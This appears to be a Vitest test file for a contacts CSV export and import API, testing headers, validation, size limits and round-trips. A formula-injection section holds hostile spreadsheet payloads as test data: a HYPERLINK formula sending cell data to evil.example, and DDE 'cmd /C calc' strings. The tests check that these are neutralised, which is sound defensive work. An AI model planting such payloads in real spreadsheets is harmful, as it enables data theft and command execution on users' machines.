import { CUSTOMER_FIELD_HEADERS, CUSTOMER_IMPORT_FIELDS } from '@crewdesk/domain';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { customers, employees } from '../../db/schema/index.ts';
import {
  asUser,
  createTestApp,
  signedInUser,
  type SignedInUser,
  type TestApp,
} from '../../../test/build-app.ts';
import { addContact, ownEmployeeId } from '../../../test/customers.ts';
import { createJobAs } from '../../../test/jobs.ts';

const HEADER =
  'First Name,Last Name,Email,Phone,Company,Customer Type,Source,Address,City,State,Zip,Latitude,Longitude,WhatsApp,Facebook,Instagram,Assigned To,Notes,ID,Created At,Updated At';

function csvOf(rows: string[][]): string {
  return rows
    .map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(','))
    .join('\n');
}

const SIMPLE_HEADER = ['First', 'Last', 'E-mail', 'Phone', 'Type'];

describe('contacts CSV', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  async function rowsOf(accountId: string) {
    return t.app.db.select().from(customers).where(eq(customers.accountId, accountId));
  }

  async function importCsv(user: SignedInUser, payload: Record<string, unknown>) {
    return asUser(t.app, user, { method: 'POST', url: '/api/customers/import', payload });
  }

  const simpleMapping = {
    firstName: 'First',
    lastName: 'Last',
    email: 'E-mail',
    phone: 'Phone',
    customerType: 'Type',
  };

  describe('GET /api/customers/export', () => {
    it('when exported, then every live contact of the business comes with a header row and every field', async () => {
      const owner = await signedInUser(t.app);
      const stranger = await signedInUser(t.app);
      await addContact(t.app, stranger, { lastName: 'Elsewhere' });
      const full = await addContact(t.app, owner, {
        firstName: 'Maria',
        lastName: 'Lopez, Jr.',
        company: 'Quote "Q" Co',
        notes: 'Line one\nLine two',
        latitude: 30.25,
        longitude: -97.75,
        assignedTo: await ownEmployeeId(t.app, owner),
      });
      const archived = await addContact(t.app, owner, { lastName: 'Archived' });
      await createJobAs(t.app, owner, { customerId: archived.id });
      await asUser(t.app, owner, { method: 'DELETE', url: `/api/customers/${archived.id}` });

      const res = await asUser(t.app, owner, { method: 'GET', url: '/api/customers/export' });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      expect(res.body.split('\n')[0]).toBe(HEADER);
      const records = parse(res.body, { columns: true }) as Record<string, string>[];
      expect(records).toHaveLength(1);
      expect(records[0]).toMatchObject({
        'First Name': 'Maria',
        'Last Name': 'Lopez, Jr.',
        Company: 'Quote "Q" Co',
        Notes: 'Line one\nLine two',
        Latitude: '30.25',
        Longitude: '-97.75',
        'Customer Type': 'commercial',
        Source: 'website',
        City: '',
        ID: full.id,
        'Created At': full.createdAt,
      });
      expect(records[0]?.['Assigned To']).not.toBe('');
    });
  });

  describe('formula injection', () => {
    // What a spreadsheet would run if these cells were written as typed.
    const hostile = {
      firstName: '=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
      lastName: "+1+cmd|' /C calc'!A0",
      company: "-2+3+cmd|' /C notepad'!A0",
      address: "@SUM(1+1)*cmd|' /C calc'!A0",
      city: "'=already quoted",
      notes: '=1+1\nsecond line',
    };
    const mapping = Object.fromEntries(
      CUSTOMER_IMPORT_FIELDS.map((f) => [f, CUSTOMER_FIELD_HEADERS[f]]),
    );

    async function exportOf(user: SignedInUser) {
      const res = await asUser(t.app, user, { method: 'GET', url: '/api/customers/export' });
      expect(res.statusCode).toBe(200);
      return {
        csv: res.body,
        records: parse(res.body, { columns: true }) as Record<string, string>[],
      };
    }

    it('when a contact’s fields start with = + - @, then the export prefixes them with an apostrophe so a spreadsheet shows them as text', async () => {
      const owner = await signedInUser(t.app);
      await addContact(t.app, owner, { ...hostile, latitude: 30.25, longitude: -97.75 });
      const { records } = await exportOf(owner);
      expect(records).toHaveLength(1);
      expect(records[0]).toMatchObject({
        'First Name': `'${hostile.firstName}`,
        'Last Name': `'${hostile.lastName}`,
        Company: `'${hostile.company}`,
        Address: `'${hostile.address}`,
        // An apostrophe the user typed before a formula character gets one more, so the
        // import (which strips one) gives back what was typed.
        City: `''=already quoted`,
        Notes: `'${hostile.notes}`,
        // A plain number cannot run: coordinates stay numbers.
        Latitude: '30.25',
        Longitude: '-97.75',
      });
      for (const record of records) {
        for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
      }
    });

    it('when an export is imported and exported again, then the contacts are as typed and the apostrophes do not grow', async () => {
      const owner = await signedInUser(t.app);
      await addContact(t.app, owner, hostile);
      const first = await exportOf(owner);
      expect(first.records[0]?.['First Name']).toBe(`'${hostile.firstName}`);

      const other = await signedInUser(t.app);
      const res = await importCsv(other, { csv: first.csv, mapping, mode: 'all-or-nothing' });
      expect(res.json()).toEqual({ imported: 1, errors: [] });
      const [stored] = await rowsOf(other.accountId);
      expect(stored).toMatchObject(hostile);

      const second = await exportOf(other);
      const cells = (r: Record<string, string>) =>
        CUSTOMER_IMPORT_FIELDS.map((f) => r[CUSTOMER_FIELD_HEADERS[f]]);
      expect(cells(second.records[0]!)).toEqual(cells(first.records[0]!));
    });
  });

  describe('POST /api/customers/import/preview', () => {
    it('when a file is previewed, then its headers, a suggested mapping, the row count and the first 5 rows come back', async () => {
      const owner = await signedInUser(t.app);
      const rows = Array.from({ length: 7 }, (_, i) => [
        `Name${i}`,
        'Lee',
        `n${i}@x.test`,
        '5125550100',
        'Residential',
      ]);
      const res = await asUser(t.app, owner, {
        method: 'POST',
        url: '/api/customers/import/preview',
        payload: { csv: `\uFEFF${csvOf([SIMPLE_HEADER, ...rows, ['', '', '', '', '']])}\n\n` },
      });
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json();
      expect(body.headers).toEqual(SIMPLE_HEADER);
      expect(body.rowCount).toBe(7);
      expect(body.sampleRows).toEqual(rows.slice(0, 5));
      expect(body.suggestedMapping).toMatchObject({ ...simpleMapping, company: null, notes: null });
      expect(await rowsOf(owner.accountId)).toEqual([]);
    });

    it.each([
      ['', 'The file is empty: the first row must name the columns.'],
      ['a,"b\n1,2', 'The file could not be read as CSV'],
    ])('when the file is %j, then it answers 400', async (csv, message) => {
      const owner = await signedInUser(t.app);
      const res = await asUser(t.app, owner, {
        method: 'POST',
        url: '/api/customers/import/preview',
        payload: { csv },
      });
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toContain(message);
    });
  });

  describe('POST /api/customers/import', () => {
    const good = (i: number) => [`Good${i}`, 'Lee', `good${i}@x.test`, '5125550100', 'residential'];
    const file = csvOf([
      SIMPLE_HEADER,
      good(1),
      ['A', 'Lee', 'a@x.test', '5125550100', ''],
      good(2),
      ['Bad', 'Lee', 'nope', '555', 'industrial'],
    ]);

    it('when all-or-nothing meets a row with an error, then nothing is imported and each bad row is listed with the dialog’s messages', async () => {
      const owner = await signedInUser(t.app);
      const res = await importCsv(owner, {
        csv: file,
        mapping: simpleMapping,
        mode: 'all-or-nothing',
      });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({
        imported: 0,
        errors: [
          { row: 3, messages: ['First name must be at least 2 characters.'] },
          {
            row: 5,
            messages: [
              'Please enter a valid email address.',
              'Please enter a valid phone number.',
              'Customer type must be one of: commercial, residential.',
            ],
          },
        ],
      });
      expect(await rowsOf(owner.accountId)).toEqual([]);
    });

    it('when valid-only, then exactly the valid rows are imported, with the importer as creator', async () => {
      const owner = await signedInUser(t.app);
      const res = await importCsv(owner, { csv: file, mapping: simpleMapping, mode: 'valid-only' });
      expect(res.json()).toMatchObject({ imported: 2, errors: [{ row: 3 }, { row: 5 }] });
      const rows = await rowsOf(owner.accountId);
      expect(rows.map((r) => r.firstName).sort()).toEqual(['Good1', 'Good2']);
      expect(rows[0]).toMatchObject({
        userId: owner.userId,
        customerType: 'residential',
        source: 'website',
      });
    });

    it('when it is a dry run, then the counts come and nothing is stored', async () => {
      const owner = await signedInUser(t.app);
      const res = await importCsv(owner, {
        csv: file,
        mapping: simpleMapping,
        mode: 'valid-only',
        dryRun: true,
      });
      expect(res.json()).toMatchObject({ imported: 2 });
      expect(await rowsOf(owner.accountId)).toEqual([]);
    });

    it('when every row is valid, then all-or-nothing imports them all', async () => {
      const owner = await signedInUser(t.app);
      const csv = csvOf([SIMPLE_HEADER, good(1), good(2), good(3)]);
      const res = await importCsv(owner, { csv, mapping: simpleMapping, mode: 'all-or-nothing' });
      expect(res.json()).toEqual({ imported: 3, errors: [] });
      expect(await rowsOf(owner.accountId)).toHaveLength(3);
    });

    it('when Assigned To names someone outside the business, then that row says so', async () => {
      const owner = await signedInUser(t.app);
      const csv = csvOf([
        [...SIMPLE_HEADER, 'Assignee'],
        [...good(1), 'Nobody Here'],
      ]);
      const res = await importCsv(owner, {
        csv,
        mapping: { ...simpleMapping, assignedTo: 'Assignee' },
        mode: 'valid-only',
      });
      expect(res.json()).toEqual({
        imported: 0,
        errors: [{ row: 2, messages: ['Choose a team member of this business.'] }],
      });
    });

    it.each([
      [
        { mapping: { firstName: 'Nope' }, mode: 'valid-only' },
        400,
        'The column "Nope" is not in the file.',
      ],
      [
        { mapping: simpleMapping, mode: 'some' },
        400,
        "mode: mode must be 'all-or-nothing' or 'valid-only'",
      ],
      [
        { mapping: {}, mode: 'valid-only' },
        400,
        'mapping: Map at least one column to a contact field.',
      ],
    ])('when the body is %j, then it answers %i', async (body, status, message) => {
      const owner = await signedInUser(t.app);
      const res = await importCsv(owner, { csv: file, ...body });
      expect(res.statusCode).toBe(status);
      expect(res.json().message).toBe(message);
    });

    it('when the file has more than 10,000 rows, then it answers 400 and imports nothing', async () => {
      const owner = await signedInUser(t.app);
      const csv = [
        SIMPLE_HEADER.join(','),
        ...Array.from({ length: 10_001 }, (_, i) => good(i).join(',')),
      ].join('\n');
      const res = await importCsv(owner, { csv, mapping: simpleMapping, mode: 'valid-only' });
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe(
        'An import can have at most 10,000 rows. Split the file and import the parts one after the other.',
      );
      expect(await rowsOf(owner.accountId)).toEqual([]);
    });

    it('when the file is larger than 5 MB, then it answers 413', async () => {
      const owner = await signedInUser(t.app);
      const csv = `${SIMPLE_HEADER.join(',')}\n${good(1).join(',')},${'x'.repeat(5 * 1024 * 1024)}`;
      const res = await importCsv(owner, { csv, mapping: simpleMapping, mode: 'valid-only' });
      expect(res.statusCode).toBe(413);
      expect(res.json().message).toBe('The file is too large: an import can be at most 5 MB.');
      const huge = await asUser(t.app, owner, {
        method: 'POST',
        url: '/api/customers/import/preview',
        payload: { csv: 'x'.repeat(11 * 1024 * 1024) },
      });
      expect(huge.statusCode).toBe(413);
      expect(huge.json().message).toBe('The file is too large: an import can be at most 5 MB.');
    });
  });

  it('when a business exports and a fresh business imports the file, then every field of every contact is kept', async () => {
    const from = await signedInUser(t.app);
    const to = await signedInUser(t.app);
    // The same team member exists in the new business: the assignment follows by name.
    const [rosa] = await t.app.db
      .insert(employees)
      .values({ accountId: from.accountId, firstName: 'Rosa', lastName: 'Delgado' })
      .returning();
    const [rosaThere] = await t.app.db
      .insert(employees)
      .values({ accountId: to.accountId, firstName: 'Rosa', lastName: 'Delgado' })
      .returning();
    const contacts = [
      {
        firstName: 'María José',
        lastName: "O'Connor-Smith",
        email: 'mj@example.test',
        phone: '+1 (512) 555-0143',
        company: 'Lopez, Lee & "Partners"',
        customerType: 'residential',
        source: 'social_media',
        address: '2400 E Cesar Chavez St\nSuite 5',
        city: 'Austin',
        state: 'TX',
        zip: '78702',
        latitude: 30.255312,
        longitude: -97.716428,
        whatsapp: '+15125550143',
        facebook: 'mj.oconnor',
        instagram: '@mjo',
        assignedTo: rosa!.id,
        notes: 'Dog in the yard, ring twice.\nPays by check.',
      },
      { firstName: 'Bo', lastName: 'Xu', email: 'bo@example.test', phone: '5125550111' },
    ];
    for (const c of contacts) await addContact(t.app, from, c);

    const exported = await asUser(t.app, from, { method: 'GET', url: '/api/customers/export' });
    const preview = await asUser(t.app, to, {
      method: 'POST',
      url: '/api/customers/import/preview',
      payload: { csv: exported.body },
    });
    const res = await importCsv(to, {
      csv: exported.body,
      mapping: preview.json().suggestedMapping,
      mode: 'all-or-nothing',
    });
    expect(res.json(), res.body).toEqual({ imported: 2, errors: [] });

    const fields = (r: typeof customers.$inferSelect) => ({
      firstName: r.firstName,
      lastName: r.lastName,
      email: r.email,
      phone: r.phone,
      company: r.company,
      customerType: r.customerType,
      source: r.source,
      address: r.address,
      city: r.city,
      state: r.state,
      zip: r.zip,
      latitude: r.latitude,
      longitude: r.longitude,
      whatsapp: r.whatsapp,
      facebook: r.facebook,
      instagram: r.instagram,
      notes: r.notes,
    });
    const byName = (a: { firstName: string }, b: { firstName: string }) =>
      a.firstName.localeCompare(b.firstName);
    const original = (await rowsOf(from.accountId)).sort(byName);
    const copied = (await rowsOf(to.accountId)).sort(byName);
    expect(copied.map(fields)).toEqual(original.map(fields));
    expect(copied.map((r) => r.assignedTo)).toEqual([null, rosaThere!.id]);
    expect(copied.every((r) => r.userId === to.userId)).toBe(true);
  });
});
